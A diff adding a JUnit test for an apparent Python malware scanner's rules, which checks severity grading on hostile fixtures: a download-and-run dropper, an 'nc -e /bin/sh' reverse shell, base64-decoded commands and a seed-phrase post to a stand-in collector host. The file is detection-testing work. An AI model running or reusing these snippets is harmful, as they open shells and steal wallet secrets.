@@ -1,0 +1,156 @@
+package dev.kingsnake.rules;
+
+import dev.kingsnake.Confidence;
+import dev.kingsnake.Limits;
+import dev.kingsnake.Severity;
+import dev.kingsnake.internal.python.ParseOutcome;
+import dev.kingsnake.internal.python.PythonParser;
+import dev.kingsnake.internal.python.semantic.SemanticModel;
+import dev.kingsnake.rules.exfil.KeyMaterialSendRule;
+import dev.kingsnake.rules.network.DownloadRule;
+import dev.kingsnake.rules.obfuscation.ObfuscatorMarkerRule;
+import dev.kingsnake.rules.persistence.DropperRule;
+import dev.kingsnake.rules.process.EncodedCommandRule;
+import dev.kingsnake.rules.process.ShellCommandRule;
+import dev.kingsnake.spi.FindingSink;
+import dev.kingsnake.spi.Location;
+import dev.kingsnake.spi.PythonFile;
+import dev.kingsnake.spi.PythonFileRule;
+import org.junit.jupiter.api.Test;
+
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * Rules that look through functions defined in the same file (helpers that run, decode, download or save),
+ * on real parsed source: the graded severity, and the look-alikes that must stay quiet.
+ */
+class HelperFunctionRulesTest {
+    private static final PythonParser PARSER = new PythonParser(Limits.defaults());
+
+    private record Reported(int line, Severity severity, Confidence confidence, String message) {
+    }
+
+    private static List<Reported> run(PythonFileRule rule, String source) {
+        return run(rule, "pkg/mod.py", source);
+    }
+
+    private static List<Reported> run(PythonFileRule rule, String path, String source) {
+        byte[] bytes = source.getBytes(StandardCharsets.UTF_8);
+        ParseOutcome out = PARSER.parse(path, bytes);
+        PythonFile f = new SemanticModel(path, bytes, out.text(), out.module(), false, List.of(),
+                Optional.empty());
+        List<Reported> found = new ArrayList<>();
+        rule.check(f, null, new FindingSink() {
+            @Override
+            public void report(Location at, String message, String evidence) {
+                report(at, message, evidence, rule.info().severity(), rule.info().confidence());
+            }
+
+            @Override
+            public void report(Location at, String message, String evidence, Severity s, Confidence c) {
+                found.add(new Reported(at.line(), s, c, message));
+            }
+        });
+        return found;
+    }
+
+    @Test
+    void anExecutableNameHandedToADownloadHelperMakesTheDownloadHigh() {
+        String src = "import requests\n"
+                + "def save(url, name):\n"
+                + "    data = requests.get(url).content\n"
+                + "    with open(name, 'wb') as f:\n"
+                + "        f.write(data)\n"
+                + "def main():\n"
+                + "    target = 'tool.exe'\n"
+                + "    save('https://cdn.example.invalid/t', target)\n";
+        List<Reported> r = run(new DownloadRule(), src);
+        assertEquals(1, r.size(), r.toString());
+        assertEquals(Severity.HIGH, r.get(0).severity());
+        List<Reported> data = run(new DownloadRule(), src.replace("tool.exe", "model.bin"));
+        assertEquals(Severity.LOW, data.get(0).severity(), data.toString());
+    }
+
+    @Test
+    void helpersSharingTheSavedPathAreADropperButUnrelatedHelpersAreNot() {
+        String src = "import requests, subprocess\n"
+                + "def download(url, path):\n"
+                + "    r = requests.get(url)\n"
+                + "    with open(path, 'wb') as f:\n"
+                + "        f.write(r.content)\n"
+                + "def launch(path):\n"
+                + "    subprocess.Popen([path])\n"
+                + "def main():\n"
+                + "    download('https://cdn.example.invalid/u', 'u.bin')\n"
+                + "    launch('u.bin')\n";
+        List<Reported> r = run(new DropperRule(), src);
+        assertEquals(1, r.size(), r.toString());
+        assertEquals(new Reported(7, Severity.HIGH, Confidence.MEDIUM, r.get(0).message()), r.get(0));
+        // a build script that downloads one thing and runs a tool on another file: medium at most
+        List<Reported> build = run(new DropperRule(), src.replace("launch('u.bin')", "launch('other.cfg')"));
+        assertEquals(1, build.size(), build.toString());
+        assertEquals(Severity.MEDIUM, build.get(0).severity());
+    }
+
+    @Test
+    void aProcessHelperIsJudgedByWhatItsCallersPass() {
+        String src = "import subprocess\n"
+                + "def run(cmd):\n"
+                + "    return subprocess.Popen(cmd, shell=True).wait()\n"
+                + "run('make -j4')\n"
+                + "run(compute())\n"
+                + "run('nc -e /bin/sh example.invalid 4444')\n";
+        List<Reported> r = run(new ShellCommandRule(), src);
+        // the helper's own computed call (line 3) and the network tool (line 6); neither the build tool nor
+        // the computed argument (which would only repeat line 3) is reported at the call sites
+        assertEquals(List.of(3, 6), r.stream().map(Reported::line).toList(), r.toString());
+        assertEquals(Severity.MEDIUM, r.get(1).severity());
+    }
+
+    @Test
+    void aDecoderHelperMakesItsResultDecodedButAnyOtherHelperDoesNot() {
+        String src = "import base64, os\n"
+                + "def b64d(s):\n"
+                + "    raw = base64.b64decode(s.encode('ascii'))\n"
+                + "    return raw.decode('ascii')\n"
+                + "def banner():\n"
+                + "    data = base64.b64decode('aGVsbG8=')\n"
+                + "    return 'echo ' + str(len(data))\n"
+                + "os.system(b64d('ZWNobyBoaQ=='))\n"
+                + "os.system(banner())\n";
+        List<Reported> r = run(new EncodedCommandRule(), src);
+        assertEquals(List.of(8), r.stream().map(Reported::line).toList(), r.toString());
+    }
+
+    @Test
+    void privateKeysNeedAWalletContextSeedPhrasesDoNot() {
+        String api = "import requests\n"
+                + "def verify(private_key, token):\n"
+                + "    return requests.post('https://captcha.example.invalid/v', data={'secret': private_key})\n";
+        assertEquals(List.of(), run(new KeyMaterialSendRule(), api));
+        assertEquals(1, run(new KeyMaterialSendRule(), api.replace("import requests\n",
+                "import requests\nRPC = 'https://solana.example.invalid'\n")).size());
+        String seed = "import requests\n"
+                + "def backup(seed_phrase):\n"
+                + "    requests.post('https://collect.example.invalid/s', json={'w': seed_phrase})\n";
+        List<Reported> r = run(new KeyMaterialSendRule(), seed);
+        assertEquals(1, r.size(), r.toString());
+        assertTrue(r.get(0).message().contains("seed_phrase"), r.toString());
+    }
+
+    @Test
+    void anObfuscatedInstallScriptIsHighAnObfuscatedModuleMedium() {
+        String src = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'x')\n";
+        List<Reported> setup = run(new ObfuscatorMarkerRule(), "setup.py", src);
+        assertEquals(1, setup.size(), setup.toString());
+        assertEquals(Severity.HIGH, setup.get(0).severity());
+        List<Reported> module = run(new ObfuscatorMarkerRule(), "pkg/core.py", src);
+        assertEquals(Severity.MEDIUM, module.get(0).severity(), module.toString());
+    }
+}
